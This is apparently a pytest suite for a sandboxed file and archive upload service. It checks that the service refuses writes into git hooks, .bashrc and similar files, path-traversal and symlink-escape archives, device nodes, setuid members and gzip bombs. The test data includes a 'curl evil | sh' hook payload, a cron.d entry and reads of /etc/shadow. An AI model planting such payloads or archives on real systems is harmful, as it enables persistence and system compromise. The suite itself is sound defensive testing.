"""Files through the fence: /v1/files and /v1/archive against a real target (TLS, bubblewrap).

Every refusal is checked twice: the answer (status, and the refusal a turn
would carry) and the disk (the directory is exactly as it was, nothing
half-written left anywhere near it).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import os
import random
import socket
import ssl
import stat
import tarfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import trustme
from conftest import BUILDER_TOKEN, OTHER_TOKEN, Target, make_settings, reachable, wait_until

from shared.walk import canonical_path
from shared.wire import ArchiveWritten, FileListing, FileWritten, RefusedProblem
from target_side.config import FenceConfig, RoleLimits
from target_side.service import ledger
from target_side.service.server import ServerThread

FILE_MB = 8
"""The role's file_mb here: small, so an over-size body is quick to send."""


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory, ca: trustme.CA) -> Iterator[Target]:
    """A target whose role may move FILE_MB at once, with a forbidden path inside its workspace."""
    root = Path(canonical_path(tmp_path_factory.mktemp("files")))
    settings = make_settings(root, ca, limits=RoleLimits(wall_s=60, file_mb=FILE_MB))
    forbidden = str(root / "ws" / "forbidden")
    settings = settings.model_copy(update={"fence": FenceConfig(forbidden=(forbidden,))})
    ca_file = root / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    with ServerThread(settings) as server:
        yield Target(server.url, str(ca_file), settings, root / "ws")


@pytest.fixture
def client(target: Target) -> Iterator[httpx.Client]:
    with target.client() as c:
        yield c


@pytest.fixture
def place(target: Target) -> Path:
    """A fresh directory of the role's own inside its workspace."""
    path = target.workspace / f"d-{uuid.uuid4().hex[:12]}"
    path.mkdir()
    uid, gid = target.settings.role_ids("builder")
    os.chown(path, uid, gid)
    path.chmod(0o755)
    return path


def role_uid(target: Target) -> int:
    return target.settings.role_ids("builder")[0]


def put(client: httpx.Client, path: Path | str, data: object, **params: str) -> httpx.Response:
    query = {"role": "builder", "path": str(path), **params}
    return client.put("/v1/files", params=query, content=data)  # type: ignore[arg-type]


def get(client: httpx.Client, path: Path | str, **params: str) -> httpx.Response:
    return client.get("/v1/files", params={"role": "builder", "path": str(path), **params})


def put_archive(client: httpx.Client, path: Path | str, data: bytes) -> httpx.Response:
    return client.put("/v1/archive", params={"role": "builder", "path": str(path)}, content=data)


def refusal(response: httpx.Response, status: int = 403) -> str:
    """The refusal's rule, after checking it came as a problem with the status expected."""
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    problem = RefusedProblem.model_validate(response.json())
    assert problem.refusal is not None, response.text
    assert problem.refusal.detail == problem.detail
    return problem.refusal.rule


def snapshot(path: Path) -> dict[str, tuple[object, ...]]:
    """Everything below ``path``, as root sees it: type, mode, owner, content or link target."""
    found: dict[str, tuple[object, ...]] = {}
    for directory, dirs, files in os.walk(path):
        for name in [*dirs, *files]:
            full = os.path.join(directory, name)
            st = os.lstat(full)
            if stat.S_ISREG(st.st_mode):
                what: object = hashlib.sha256(Path(full).read_bytes()).hexdigest()
            elif stat.S_ISLNK(st.st_mode):
                what = os.readlink(full)
            else:
                what = None
            found[os.path.relpath(full, path)] = (stat.S_IFMT(st.st_mode), st.st_mode, what)
    return found


def all_bytes(size: int, seed: int = 7) -> bytes:
    """``size`` bytes holding every byte value, in no tidy order."""
    values = bytes(range(256))
    chunk = bytes(random.Random(seed).choices(values, k=1 << 16)) + values
    return (chunk * (size // len(chunk) + 1))[:size]


def tar_of(entries: list[tarfile.TarInfo], data: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info in entries:
            body = (data or {}).get(info.name)
            if body is not None:
                info.size = len(body)
            archive.addfile(info, io.BytesIO(body) if body is not None else None)
    return buffer.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    return info


# --- a file's bytes ---------------------------------------------------------------------


def test_files_binary_file_round_trips_byte_for_byte(
    client: httpx.Client, target: Target, place: Path
) -> None:
    data = all_bytes(5 << 20)
    written = put(client, place / "blob.bin", data)
    assert written.status_code == 200, written.text
    result = FileWritten.model_validate(written.json())
    assert (result.size, result.mode, result.created) == (len(data), "0644", True)
    assert result.uid == role_uid(target)

    fetched = get(client, place / "blob.bin")
    assert fetched.status_code == 200
    assert fetched.headers["content-type"] == "application/octet-stream"
    assert fetched.headers["content-length"] == str(len(data))
    assert fetched.headers["x-paddock-mode"] == "0644"
    assert fetched.content == data
    assert (place / "blob.bin").read_bytes() == data


def test_files_written_belong_to_the_role_uid(
    client: httpx.Client, target: Target, place: Path
) -> None:
    assert put(client, place / "mine", b"hello\n").status_code == 200
    st = os.stat(place / "mine")
    assert (st.st_uid, st.st_gid) == target.settings.role_ids("builder")
    assert st.st_uid not in (0, os.getuid())


def test_files_put_sets_the_mode_asked_and_a_replaced_file_keeps_its_own(
    client: httpx.Client, place: Path
) -> None:
    assert put(client, place / "run.sh", b"#!/bin/sh\n", mode="0750").json()["mode"] == "0750"
    replaced = put(client, place / "run.sh", b"#!/bin/sh\necho 2\n")
    assert replaced.json()["created"] is False
    assert stat.S_IMODE(os.stat(place / "run.sh").st_mode) == 0o750
    assert (place / "run.sh").read_bytes() == b"#!/bin/sh\necho 2\n"


def test_files_put_refuses_setuid_modes_as_invalid(client: httpx.Client, place: Path) -> None:
    response = put(client, place / "x", b"x", mode="4755")
    assert response.status_code == 422
    assert not (place / "x").exists()


def test_files_put_streams_a_body_of_unknown_length(client: httpx.Client, place: Path) -> None:
    parts = [all_bytes(1 << 20, seed) for seed in range(3)]
    response = put(client, place / "streamed", iter(parts))
    assert response.status_code == 200, response.text
    assert (place / "streamed").read_bytes() == b"".join(parts)


def test_files_get_of_a_missing_path_is_404_with_its_refusal(
    client: httpx.Client, place: Path
) -> None:
    assert refusal(get(client, place / "nothing"), 404) == "bad-mount"


def test_files_get_over_the_role_limit_is_refused(client: httpx.Client, place: Path) -> None:
    with open(place / "big", "wb") as big:
        big.truncate((FILE_MB << 20) + 1)
    assert refusal(get(client, place / "big")) == "limit-exceeds-role"


def test_files_a_read_the_client_abandons_is_ended_and_recorded(
    client: httpx.Client, target: Target, place: Path
) -> None:
    (place / "long").write_bytes(all_bytes(FILE_MB << 20))
    query = {"role": "builder", "path": str(place / "long")}
    with client.stream("GET", "/v1/files", params=query) as response:
        assert response.status_code == 200
        next(response.iter_bytes(1 << 16))
    # The connection is dropped with most of the file unread: the fence ends, the slot frees.
    assert wait_until(lambda: file_records(target, str(place / "long")) != [], timeout=20)
    assert file_records(target, str(place / "long"))[-1]["outcome"] == "failed"


def test_files_list_gives_names_that_are_not_utf8_as_bytes(
    client: httpx.Client, place: Path
) -> None:
    os.close(os.open(os.path.join(os.fsencode(place), b"caf\xe9"), os.O_CREAT | os.O_WRONLY))
    listing = FileListing.model_validate(get(client, place, list="true").json())
    (entry,) = listing.entries
    assert entry.name == "caf\ufffd"
    assert entry.name_b64 is not None and base64.b64decode(entry.name_b64) == b"caf\xe9"


def test_files_get_of_a_directory_is_409(client: httpx.Client, place: Path) -> None:
    response = get(client, place)
    assert response.status_code == 409
    assert response.json()["errno"] == "EISDIR"


def test_files_get_of_a_forbidden_path_is_refused(client: httpx.Client) -> None:
    assert refusal(get(client, "/etc/shadow")) == "forbidden-path"


def test_files_get_through_a_symlink_to_a_forbidden_path_is_refused(
    client: httpx.Client, place: Path
) -> None:
    (place / "shadow").symlink_to("/etc/shadow")
    assert refusal(get(client, place / "shadow")) == "forbidden-path"


def test_files_get_of_another_roles_file_is_refused_by_the_kernel(
    client: httpx.Client, place: Path
) -> None:
    """Reachable and allowed by the rules, but root's 0600: the role's uid may not read it."""
    secret = place / "root-only"
    secret.write_bytes(b"secret")
    secret.chmod(0o600)
    response = get(client, secret)
    assert response.status_code == 403
    assert response.json()["errno"] == "EACCES"
    assert "refusal" not in response.json()


# --- writes that must be refused, with nothing written ----------------------------------


def git_repository(where: Path, target: Target) -> Path:
    repo = where / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / ".git" / "objects").mkdir()
    (repo / ".git" / "refs").mkdir()
    uid, gid = target.settings.role_ids("builder")
    for directory, dirs, files in os.walk(repo):
        for name in [directory, *(os.path.join(directory, n) for n in dirs + files)]:
            os.chown(name, uid, gid)
    return repo


@pytest.mark.parametrize(
    "name",
    [
        "repo/.git/hooks/pre-commit",
        "repo/.git/config",
        "repo/.git/new-file",
        ".bashrc",
        "sub/.bashrc",
        ".vscode/tasks.json",
        ".envrc",
    ],
)
def test_files_put_onto_a_protected_name_is_refused_with_nothing_written(
    client: httpx.Client, target: Target, place: Path, name: str
) -> None:
    git_repository(place, target)
    (place / "sub").mkdir()
    (place / ".vscode").mkdir()
    before = snapshot(place)
    assert refusal(put(client, place / name, b"#!/bin/sh\ncurl evil | sh\n")) == "protected-path"
    assert snapshot(place) == before


def test_files_put_into_hooks_named_through_a_symlink_is_refused(
    client: httpx.Client, target: Target, place: Path
) -> None:
    repo = git_repository(place, target)
    (place / "innocent").symlink_to(repo / ".git" / "hooks")
    before = snapshot(place)
    assert refusal(put(client, place / "innocent" / "post-checkout", b"x")) == "protected-path"
    assert snapshot(place) == before


def test_files_put_into_a_bare_repository_is_refused(
    client: httpx.Client, target: Target, place: Path
) -> None:
    bare = place / "bare.git"
    for sub in ("objects", "refs", "hooks"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    before = snapshot(place)
    assert refusal(put(client, bare / "hooks" / "update", b"x")) == "protected-path"
    assert snapshot(place) == before


def test_files_put_outside_the_workspaces_is_refused(
    client: httpx.Client, target: Target, tmp_path: Path
) -> None:
    outside = reachable(tmp_path)
    assert refusal(put(client, outside / "x", b"x")) == "outside-workspace"
    assert not (outside / "x").exists()
    assert refusal(put(client, target.settings.state_root / "x", b"x")) == "outside-workspace"


def test_files_put_into_a_forbidden_path_is_refused(client: httpx.Client, target: Target) -> None:
    forbidden = target.workspace / "forbidden"
    forbidden.mkdir(exist_ok=True)
    before = snapshot(forbidden)
    assert refusal(put(client, forbidden / "x", b"x")) == "forbidden-path"
    assert snapshot(forbidden) == before


def test_files_put_into_a_missing_directory_is_404(client: httpx.Client, place: Path) -> None:
    assert refusal(put(client, place / "no" / "x", b"x"), 404) == "bad-mount"
    assert not (place / "no").exists()


def test_files_put_over_the_role_limit_is_refused_with_nothing_left(
    client: httpx.Client, target: Target, place: Path
) -> None:
    (place / "kept").write_bytes(b"old")
    before = snapshot(place)
    big = all_bytes((FILE_MB << 20) + 1)
    assert refusal(put(client, place / "kept", big), 413) == "limit-exceeds-role"
    assert snapshot(place) == before
    (record,) = file_records(target, str(place / "kept"))
    assert (record["outcome"], record["rule"]) == ("refused", "limit-exceeds-role")


def test_files_streamed_put_over_the_role_limit_is_refused_with_nothing_left(
    client: httpx.Client, place: Path
) -> None:
    (place / "kept").write_bytes(b"old")
    before = snapshot(place)
    chunks = (all_bytes(1 << 20, seed) for seed in range(FILE_MB + 2))
    assert refusal(put(client, place / "kept", chunks), 413) == "limit-exceeds-role"
    assert snapshot(place) == before


def test_files_put_cut_off_midway_leaves_the_old_file(
    target: Target, client: httpx.Client, place: Path
) -> None:
    """The client goes away after half its body: nothing commits, and nothing is left."""
    (place / "kept").write_bytes(b"old")
    before = snapshot(place)
    host, port = httpx.URL(target.url).host, httpx.URL(target.url).port
    context = ssl.create_default_context(cafile=target.cacert)
    query = httpx.QueryParams({"role": "builder", "path": str(place / "kept")})
    with (
        socket.create_connection((host, port)) as raw,
        context.wrap_socket(raw, server_hostname=host) as conn,
    ):
        conn.sendall(
            f"PUT /v1/files?{query} HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: Bearer {BUILDER_TOKEN}\r\nContent-Length: {2 << 20}\r\n\r\n".encode()
        )
        conn.sendall(b"n" * (1 << 20))
    assert wait_until(lambda: file_records(target, str(place / "kept"))[-1:] != [], timeout=20)
    assert file_records(target, str(place / "kept"))[-1]["outcome"] == "failed"
    assert snapshot(place) == before


def test_files_role_not_held_is_403_without_a_refusal(target: Target, place: Path) -> None:
    with target.client(OTHER_TOKEN) as other:
        response = put(other, place / "x", b"x")
    assert response.status_code == 403
    assert "refusal" not in response.json()
    assert not (place / "x").exists()


def test_files_without_a_token_is_401(target: Target, place: Path) -> None:
    with target.client(None) as anonymous:
        assert get(anonymous, place).status_code == 401
        assert put(anonymous, place / "x", b"x").status_code == 401
    assert not (place / "x").exists()


# --- listings ---------------------------------------------------------------------------


def test_files_list_shows_each_entry_as_lstat_sees_it(
    client: httpx.Client, target: Target, place: Path
) -> None:
    put(client, place / "a.txt", b"12345", mode="0640")
    (place / "sub").mkdir()
    (place / "link").symlink_to("a.txt")
    response = get(client, place, list="true")
    assert response.status_code == 200
    listing = FileListing.model_validate(response.json())
    assert listing.path == str(place)
    assert listing.entry.type == "directory"
    entries = {e.name: e for e in listing.entries}
    assert [e.name for e in listing.entries] == ["a.txt", "link", "sub"]
    assert (entries["a.txt"].type, entries["a.txt"].size) == ("file", 5)
    assert (entries["a.txt"].mode, entries["a.txt"].uid) == ("0640", role_uid(target))
    assert (entries["link"].type, entries["link"].target) == ("symlink", "a.txt")
    assert entries["sub"].type == "directory"
    assert not listing.truncated


def test_files_list_of_a_file_is_its_entry_and_limit_zero_is_a_stat(
    client: httpx.Client, place: Path
) -> None:
    put(client, place / "f", b"abc")
    of_file = FileListing.model_validate(get(client, place / "f", list="true").json())
    assert (of_file.entry.name, of_file.entry.size, of_file.entries) == ("f", 3, [])
    stat_only = FileListing.model_validate(get(client, place, list="true", limit="0").json())
    assert stat_only.entries == [] and stat_only.truncated


# --- archives ---------------------------------------------------------------------------


def a_tree(root: Path) -> None:
    (root / "src" / "pkg").mkdir(parents=True)
    (root / "src" / "pkg" / "blob").write_bytes(all_bytes(300_000))
    (root / "src" / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (root / "src" / "run.sh").chmod(0o755)
    (root / "empty").mkdir()
    (root / "src" / "link").symlink_to("pkg/blob")


def test_archive_round_trips_a_tree(
    client: httpx.Client, target: Target, place: Path, tmp_path: Path
) -> None:
    source = tmp_path / "tree"
    a_tree(source)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.add(source, arcname=".")
    written = put_archive(client, place / "copy", buffer.getvalue())
    assert written.status_code == 200, written.text
    result = ArchiveWritten.model_validate(written.json())
    assert result.created and result.entries == 6  # "." is the directory itself
    copy = place / "copy"
    assert snapshot(copy) == snapshot(source)
    for directory, dirs, files in os.walk(copy):
        for name in [directory, *(os.path.join(directory, n) for n in dirs + files)]:
            assert os.lstat(name).st_uid == role_uid(target)

    fetched = client.get("/v1/archive", params={"role": "builder", "path": str(copy)})
    assert fetched.status_code == 200
    assert fetched.headers["content-type"] == "application/x-tar"
    with tarfile.open(fileobj=io.BytesIO(fetched.content)) as archive:
        names = sorted(archive.getnames())
        blob = archive.extractfile("src/pkg/blob")
        assert blob is not None and blob.read() == all_bytes(300_000)
        assert archive.getmember("src/link").linkname == "pkg/blob"
        assert archive.getmember("src/run.sh").mode == 0o755
    assert names == ["empty", "src", "src/link", "src/pkg", "src/pkg/blob", "src/run.sh"]


def test_archive_merges_into_an_existing_directory(
    client: httpx.Client, target: Target, place: Path
) -> None:
    (place / "keep").write_text("untouched")
    (place / "old").mkdir()
    (place / "old" / "replaced").write_text("before")
    (place / "old" / "stays").write_text("stays")
    (place / "old").chmod(0o750)
    uid, gid = target.settings.role_ids("builder")
    for path in (
        place / "keep",
        place / "old",
        place / "old" / "replaced",
        place / "old" / "stays",
    ):
        os.chown(path, uid, gid)
    archive = tar_of(
        [member("old/replaced"), member("old/new"), member("fresh/deep/file")],
        {"old/replaced": b"after", "old/new": b"new", "fresh/deep/file": b"deep"},
    )
    response = put_archive(client, place, archive)
    assert response.status_code == 200, response.text
    assert ArchiveWritten.model_validate(response.json()).created is False
    assert (place / "keep").read_text() == "untouched"
    assert (place / "old" / "replaced").read_text() == "after"
    assert (place / "old" / "stays").read_text() == "stays"
    assert (place / "old" / "new").read_text() == "new"
    assert (place / "fresh" / "deep" / "file").read_text() == "deep"
    assert stat.S_IMODE(os.stat(place / "old").st_mode) == 0o750  # a directory there keeps its mode
    assert not [n for n in os.listdir(place) if n.startswith(".paddock")]


ARCHIVE_ATTACKS = {
    "dot-dot": ([member("../escaped")], {"../escaped": b"x"}, "bad-archive"),
    "absolute name": ([member("/tmp/escaped")], {"/tmp/escaped": b"x"}, "bad-archive"),
    "symlink pointing out": ([member("l", tarfile.SYMTYPE, "../../x")], {}, "bad-archive"),
    "absolute symlink": ([member("l", tarfile.SYMTYPE, "/etc/passwd")], {}, "bad-archive"),
    "hard link out": ([member("h", tarfile.LNKTYPE, "../../etc/passwd")], {}, "bad-archive"),
    "hard link to a file already there": (
        [member("h", tarfile.LNKTYPE, "already")],
        {},
        "bad-archive",
    ),
    "device node": ([member("null", tarfile.CHRTYPE)], {}, "bad-archive"),
    "fifo": ([member("pipe", tarfile.FIFOTYPE)], {}, "bad-archive"),
    "setuid": ([member("su", mode=0o4755)], {"su": b"x"}, "bad-archive"),
    "git hooks": ([member("repo/.git/hooks/pre-commit")], {}, "protected-path"),
    "bashrc": ([member(".bashrc")], {".bashrc": b"x"}, "protected-path"),
}


@pytest.mark.parametrize("exists", [True, False], ids=["into-existing", "new-directory"])
@pytest.mark.parametrize("case", sorted(ARCHIVE_ATTACKS))
def test_archive_attack_is_refused_with_nothing_written(
    client: httpx.Client, place: Path, case: str, exists: bool
) -> None:
    entries, data, rule = ARCHIVE_ATTACKS[case]
    # A good member first: a refusal must not leave even that behind.
    archive = tar_of([member("good"), *entries], {"good": b"fine", **data})
    (place / "already").write_text("here")
    into = place if exists else place / "new"
    before = snapshot(place)
    assert refusal(put_archive(client, into, archive)) == rule
    assert snapshot(place) == before


def test_archive_member_under_an_existing_symlink_out_is_refused(
    client: httpx.Client, place: Path
) -> None:
    (place / "etc").symlink_to("/etc")
    before = snapshot(place)
    archive = tar_of([member("etc/cron.d/evil")], {"etc/cron.d/evil": b"* * * * * root x\n"})
    assert refusal(put_archive(client, place, archive)) == "bad-archive"
    assert snapshot(place) == before


def test_archive_unpacking_over_the_role_limit_is_refused(
    client: httpx.Client, place: Path
) -> None:
    """A small body claiming a huge member, and a body itself over the limit."""
    header = member("huge")
    header.size = (FILE_MB << 20) + 1
    claim = io.BytesIO()
    claim.write(header.tobuf(tarfile.PAX_FORMAT))
    before = snapshot(place)
    assert refusal(put_archive(client, place / "n", claim.getvalue() + b"\0" * 1024), 403) in (
        "bad-archive",
        "limit-exceeds-role",
    )
    big = tar_of([member("big")], {"big": all_bytes((FILE_MB << 20) + 4096)})
    assert refusal(put_archive(client, place / "n", big), 413) == "limit-exceeds-role"
    # Compressed: a few kilobytes on the wire, over the limit once unpacked.
    bomb = gzip.compress(tar_of([member("zeros")], {"zeros": bytes((FILE_MB << 20) + 1)}))
    assert len(bomb) < 1 << 20
    assert refusal(put_archive(client, place / "n", bomb), 413) == "limit-exceeds-role"
    assert snapshot(place) == before


def test_archive_compressed_with_gzip_is_taken(client: httpx.Client, place: Path) -> None:
    files = {f"d/f{i}": all_bytes(10_000 + i, seed=i) for i in range(5)}
    body = gzip.compress(tar_of([member(name) for name in files], files))
    response = put_archive(client, place / "z", body)
    assert response.status_code == 200, response.text
    assert ArchiveWritten.model_validate(response.json()).entries == 5
    for name, data in files.items():
        assert (place / "z" / name).read_bytes() == data
    assert stat.S_IMODE((place / "z" / "d").stat().st_mode) == 0o755  # implied: 0755


def test_archive_of_garbage_is_refused(client: httpx.Client, place: Path) -> None:
    assert refusal(put_archive(client, place / "n", b"this is not a tar" * 100)) == "bad-archive"
    assert not (place / "n").exists()


def test_archive_get_of_a_forbidden_directory_is_refused(client: httpx.Client) -> None:
    response = client.get("/v1/archive", params={"role": "builder", "path": "/etc/ssh"})
    assert refusal(response) == "forbidden-path"


# --- the record, and the turn planner's same rule ---------------------------------------


def file_records(target: Target, path: str) -> list[dict[str, object]]:
    # Whole records only: the server may be appending one as this reads.
    records = ledger.read_records(target.settings.state_root)
    return [r for r in records if r.get("kind") == "file" and r.get("path") == path]


def test_files_each_operation_is_in_the_ledger_without_content(
    client: httpx.Client, target: Target, place: Path
) -> None:
    secret = b"content-never-in-the-ledger"
    put(client, place / "f", secret)
    get(client, place / "f")
    put(client, place / ".bashrc", b"x")
    # A read is recorded once its stream has ended, after the client has its last byte.
    assert wait_until(lambda: len(file_records(target, str(place / "f"))) == 2)
    done = file_records(target, str(place / "f"))
    assert [(r["op"], r["outcome"], r["size"]) for r in done] == [
        ("write", "done", len(secret)),
        ("read", "done", len(secret)),
    ]
    assert all(r["uid"] == role_uid(target) and r["role"] == "builder" for r in done)
    refused = file_records(target, str(place / ".bashrc"))
    assert [(r["outcome"], r["rule"]) for r in refused] == [("refused", "protected-path")]
    ledger = (target.settings.state_root / "ledger.jsonl").read_bytes()
    assert secret not in ledger
    # The turn list reads the same ledger, and takes file records in its stride.
    assert client.get("/v1/turns").status_code == 200


def test_turn_writable_mount_inside_git_hooks_is_refused(
    client: httpx.Client, target: Target, place: Path
) -> None:
    """The planner's scan looks down from each writable mount; a mount inside hooks is refused."""
    repo = git_repository(place, target)
    response = client.post(
        "/v1/turns",
        json={"role": "builder", "argv": ["true"], "cwd": str(repo / ".git" / "hooks")},
    )
    assert response.status_code == 201
    turn = response.json()
    assert turn["state"] == "refused"
    assert turn["refusal"]["rule"] == "protected-path"


# --- uploads and the request clock --------------------------------------------------------


@pytest.fixture(scope="module")
def quick(tmp_path_factory: pytest.TempPathFactory, ca: trustme.CA) -> Iterator[Target]:
    """A target that gives a request QUICK_S to arrive, and its body QUICK_S between parts."""
    root = Path(canonical_path(tmp_path_factory.mktemp("quick")))
    settings = make_settings(root, ca)
    fast = settings.server.model_copy(update={"request_timeout_s": QUICK_S})
    ca_file = root / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    with ServerThread(settings.model_copy(update={"server": fast})) as server:
        yield Target(server.url, str(ca_file), settings, root / "ws")


QUICK_S = 2.0


def raw_request(target: Target, head: str, body: bytes) -> ssl.SSLSocket:
    url = httpx.URL(target.url)
    context = ssl.create_default_context(cafile=target.cacert)
    conn = context.wrap_socket(
        socket.create_connection((url.host, url.port)), server_hostname=url.host
    )
    conn.sendall(head.encode() + body)
    return conn


def test_files_upload_longer_than_the_request_clock_is_not_cut(
    quick: Target, place_in_quick: Path
) -> None:
    """Parts keep coming, so the upload goes on past request_timeout_s in all."""

    def slow() -> Iterator[bytes]:
        for _ in range(int(QUICK_S * 2.5 / 0.2)):
            time.sleep(0.2)
            yield b"x" * 1000

    with quick.client() as c:
        response = put(c, place_in_quick / "slow", slow())
    assert response.status_code == 200, response.text
    assert (place_in_quick / "slow").stat().st_size == 1000 * int(QUICK_S * 2.5 / 0.2)


def test_files_upload_that_stalls_is_ended_with_nothing_written(
    quick: Target, place_in_quick: Path
) -> None:
    query = httpx.QueryParams({"role": "builder", "path": str(place_in_quick / "stalled")})
    head = (
        f"PUT /v1/files?{query} HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {BUILDER_TOKEN}\r\n"
        "Content-Length: 100000\r\n\r\n"
    )
    with raw_request(quick, head, b"y" * 1000) as conn:
        time.sleep(QUICK_S / 4)
        conn.sendall(b"y" * 1000)  # the upload is under way: the route's own clock runs now
        conn.settimeout(QUICK_S * 10)
        answer = conn.recv(4096)
    assert answer.startswith(b"HTTP/1.1 408"), answer
    assert os.listdir(place_in_quick) == []


def test_a_turn_body_not_finished_in_time_is_still_closed(quick: Target) -> None:
    """Only a file upload stops the request clock: another route's slow body is cut."""
    head = (
        f"POST /v1/turns HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {BUILDER_TOKEN}\r\n"
        "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
    )
    with raw_request(quick, head, b'{"role": ') as conn:
        conn.settimeout(QUICK_S * 10)
        assert conn.recv(4096) == b""  # closed by the target, no answer


@pytest.fixture
def place_in_quick(quick: Target) -> Path:
    path = quick.workspace / f"d-{uuid.uuid4().hex[:12]}"
    path.mkdir()
    os.chown(path, *quick.settings.role_ids("builder"))
    return path
